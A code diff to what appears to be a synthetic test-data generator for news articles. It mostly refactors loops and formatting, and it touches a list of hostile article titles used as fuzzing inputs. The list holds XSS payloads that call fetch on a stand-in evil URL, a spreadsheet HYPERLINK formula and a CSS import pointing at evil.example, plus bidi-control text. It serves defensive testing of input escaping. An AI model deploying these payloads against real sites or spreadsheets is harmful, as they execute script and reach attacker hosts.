@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 import json
 import random
 from collections.abc import Mapping
@@ -46,7 +47,7 @@ HOSTILE_TITLES = (
     f"<script>fetch('{EVIL}')</script>白鹭湾",
     f'<img src="{EVIL}" onerror="fetch(\'{EVIL}\')">',
     "[点击](javascript:alert(1)) :red[红] $x^2$ `码`",
-    "=HYPERLINK(\"http://evil.example\",\"x\")",
+    '=HYPERLINK("http://evil.example","x")',
     "\u202e倒置\u202c 白鹭湾 \u200b",
     "很长" * 400,
     "</div></details><style>@import 'http://evil.example/a.css';</style>",
@@ -140,7 +141,7 @@ def _event(world: World, number: int, chance: random.Random, hostile: bool, extr
         correction="merged" if number == 3 else None,
         **{f"n_{o['outlet_id']}": sum(r["outlet"] == o["outlet_id"] for r in rows) for o in world.tables["outlets"]},
     )  # fmt: skip
-    for a, b in zip(rows, rows[1:], strict=False):
+    for a, b in itertools.pairwise(rows):
         if a["outlet"] != b["outlet"]:
             world.add(
                 "matches", article_id_a=a["article_id"], article_id_b=b["article_id"], score=0.83,
@@ -155,7 +156,11 @@ def _article(
     day = outlet == "harbour"
     published = start + timedelta(hours=chance.randint(0, 30))
     published = published.replace(hour=0, minute=0) if day else published
-    title = HOSTILE_TITLES[(number + copy + len(outlet)) % len(HOSTILE_TITLES)] if hostile else f"{topic}：第{copy + 1}天"
+    title = (
+        HOSTILE_TITLES[(number + copy + len(outlet)) % len(HOSTILE_TITLES)]
+        if hostile
+        else f"{topic}：第{copy + 1}天"
+    )
     body, hits = _body(outlet, chance, hostile)
     chars = sum(not c.isspace() for c in body)
     counts = {f: sum(h["family"] == f for h in hits) for f, *_ in FAMILIES}
@@ -201,7 +206,15 @@ def _body(outlet: str, chance: random.Random, hostile: bool) -> tuple[str, list[
         for variant in variants:
             at = body.find(variant)
             while at >= 0:
-                hits.append(dict(start=at, end=at + len(variant), family=family, concept=concept, variant=variant))
+                hits.append(
+                    {
+                        "start": at,
+                        "end": at + len(variant),
+                        "family": family,
+                        "concept": concept,
+                        "variant": variant,
+                    }
+                )
                 at = body.find(variant, at + 1)
     return body, sorted(hits, key=lambda h: h["start"])
 
